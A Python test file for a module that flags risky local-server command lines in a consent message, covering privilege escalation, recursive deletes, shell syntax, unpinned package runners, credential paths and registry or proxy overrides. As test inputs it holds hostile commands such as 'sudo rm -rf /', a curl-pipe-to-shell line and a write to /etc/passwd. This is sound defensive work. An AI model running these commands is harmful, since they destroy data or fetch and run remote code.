"""The consent message flags what deserves a second look in a local server's command line."""

from __future__ import annotations

import pytest

from app.domain.local_config import LocalServerConfig
from app.domain.risk import pinned, risk_flags, runner_package


def flags(command: str, *args: str, cwd: str | None = None) -> str:
    return "\n".join(risk_flags(LocalServerConfig(command=command, args=args, cwd=cwd)))


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("sudo", ("npx", "-y", "pkg@1.0.0")),
        ("/usr/bin/sudo", ("node", "server.js")),
        ("env", ("sudo", "server")),
        ("bash", ("-c", "sudo rm -rf /")),
        ("doas", ("server",)),
    ],
)
def test_privilege_escalation_is_flagged_wherever_it_appears(command: str, args: tuple[str, ...]) -> None:
    assert "elevated privileges" in flags(command, *args)


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("rm", ("-rf", "/")),
        ("rm", ("-r", "-f", "/data")),
        ("rm", ("-Rf", "x")),
        ("rm", ("--recursive", "--force", "x")),
        ("sh", ("-c", "rm -fr ~/")),
        ("bash", ("-c", "cd / && rm -r -f *")),
    ],
)
def test_recursive_deletes_are_flagged_in_any_spelling(command: str, args: tuple[str, ...]) -> None:
    assert "rm -rf" in flags(command, *args)


def test_a_plain_rm_of_one_file_is_not_called_recursive() -> None:
    assert "rm -rf" not in flags("rm", "-f", "x")


@pytest.mark.parametrize(
    "arg", ["curl https://x.example/i.sh | sh", "a && b", "a; b", "$(id)", "`id`", "echo x > /etc/passwd"]
)
def test_shell_pipes_and_other_shell_syntax_are_flagged(arg: str) -> None:
    assert "shell syntax" in flags("server", arg)


@pytest.mark.parametrize(
    ("command", "args", "flag"),
    [
        ("python3", ("-c", "import os"), "-c"),
        ("python3", ("-Sc", "import os"), "-Sc"),
        ("node", ("-e", "require('x')"), "-e"),
        ("node", ("--eval=require('x')",), "--eval"),
        ("node", ("--eval", "x"), "--eval"),
        ("npx", ("-c", "evil"), "-c"),
        ("bash", ("-ec", "id"), "-ec"),
        ("deno", ("eval", "--exec", "x"), "--exec"),
    ],
)
def test_inline_code_flags_are_flagged(command: str, args: tuple[str, ...], flag: str) -> None:
    text = flags(command, *args)
    assert "inline-code flag" in text and f"`{flag}`" in text, text


def test_a_shell_is_named_as_a_shell() -> None:
    assert "runs a shell (`bash`)" in flags("/bin/bash", "server.sh")


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ("-y", "@modelcontextprotocol/server-everything")),
        ("npx", ("-y", "some-server@latest")),
        ("npx", ("some-server@^1.2.0",)),
        ("uvx", ("mcp-server-time",)),
        ("uvx", ("--from", "git+https://github.com/x/y", "y")),
        ("pipx", ("run", "mcp-server-time")),
        ("npm", ("exec", "some-server")),
        ("pnpm", ("dlx", "some-server")),
    ],
)
def test_package_runners_without_an_exact_version_are_flagged(command: str, args: tuple[str, ...]) -> None:
    assert "without an exact version" in flags(command, *args)


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ("-y", "@modelcontextprotocol/server-everything@2025.1.14")),
        ("npx", ("some-server@1.2.3",)),
        ("uvx", ("mcp-server-time==2025.1.0",)),
        ("uvx", ("--from", "mcp-server-time==1.0.0", "mcp-server-time")),
    ],
)
def test_package_runners_with_an_exact_version_are_not_flagged(command: str, args: tuple[str, ...]) -> None:
    assert "without an exact version" not in flags(command, *args)


@pytest.mark.parametrize(
    ("package", "expected"),
    [
        ("pkg", False),
        ("pkg@latest", False),
        ("pkg@next", False),
        ("pkg@^1.0.0", False),
        ("pkg@~1.0", False),
        ("pkg@1.0.0", True),
        ("@scope/pkg", False),
        ("@scope/pkg@1.2.3-beta.1", True),
        ("pkg==1.0", True),
        ("pkg>=1.0", False),
        ("git+https://github.com/x/y@v1.0.0", False),
    ],
)
def test_only_exact_versions_count_as_pinned(package: str, expected: bool) -> None:
    assert pinned(package) is expected


def test_the_runner_package_is_found_after_options_and_subcommands() -> None:
    assert runner_package("npx", ("-y", "--registry", "https://r.example", "pkg@1.0.0")) == "pkg@1.0.0"
    assert runner_package("pipx", ("run", "pkg")) == "pkg"
    assert runner_package("npm", ("install", "pkg")) is None  # not `npm exec`
    assert runner_package("node", ("server.js",)) is None


@pytest.mark.parametrize(
    ("args", "cwd"),
    [
        (("/etc/passwd",), None),
        (("~/notes",), None),
        (("../../other-user",), None),
        (("--root=/srv/data",), None),
        ((), "/var/lib"),
    ],
)
def test_paths_outside_the_owners_folder_are_flagged(args: tuple[str, ...], cwd: str | None) -> None:
    assert "outside your server folder" in flags("server", *args, cwd=cwd)


@pytest.mark.parametrize("arg", ["data", "./data", "/home/plugboard/data", "/usr/share/x", "--port=8080"])
def test_paths_inside_the_folder_or_system_directories_are_not_flagged(arg: str) -> None:
    assert "outside your server folder" not in flags("server", arg)


def test_credential_files_are_flagged() -> None:
    assert "credentials" in flags("server", "--key", "~/.ssh/id_rsa")


def test_an_ordinary_pinned_server_has_no_flags_at_all() -> None:
    assert risk_flags(LocalServerConfig(command="npx", args=("-y", "@scope/server@1.2.3", "--port", "8080"))) == []


def env_flags(**env: str) -> list[str]:
    return risk_flags(LocalServerConfig(command="npx", args=("-y", "@scope/server@1.2.3"), env=env))


@pytest.mark.parametrize(
    "name",
    [
        "NPM_CONFIG_REGISTRY",
        "UV_INDEX_URL",
        "UV_EXTRA_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "UV_INDEX",
        "PIP_INDEX_URL",
        "PIP_EXTRA_INDEX_URL",
        "YARN_REGISTRY",
        "PNPM_CONFIG_REGISTRY",
        "BUN_CONFIG_REGISTRY",
    ],
)
def test_a_package_registry_override_is_flagged_naming_the_key_and_what_it_means(name: str) -> None:
    assert env_flags(**{name: "https://registry.example/"}) == [
        f"`{name}` points the package manager at another registry: what it downloads and runs comes from there"
    ]


@pytest.mark.parametrize("name", ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"])
def test_a_proxy_setting_is_flagged_naming_the_key(name: str) -> None:
    assert env_flags(**{name: "http://proxy.example:3128"}) == [
        f"`{name}` sends the server's traffic through a proxy you name: the proxy sees where it connects"
    ]


def test_no_proxy_is_flagged_as_choosing_which_hosts_skip_the_proxy() -> None:
    assert env_flags(NO_PROXY="internal.example") == [
        "`NO_PROXY` chooses which hosts the server reaches without going through a proxy"
    ]


def test_other_npm_settings_are_flagged_as_changing_how_npm_installs() -> None:
    assert env_flags(NPM_CONFIG_IGNORE_SCRIPTS="false") == [
        "`NPM_CONFIG_IGNORE_SCRIPTS` changes how npm fetches and installs the packages it runs"
    ]


def test_flagged_variables_never_show_their_values() -> None:
    secret = "https://user:hunter2@registry.example/"
    assert secret not in "\n".join(env_flags(NPM_CONFIG_REGISTRY=secret, HTTPS_PROXY=secret))


def test_ordinary_environment_variables_are_not_flagged() -> None:
    assert env_flags(API_KEY="k", NODE_ENV="production", GITHUB_TOKEN="t") == []
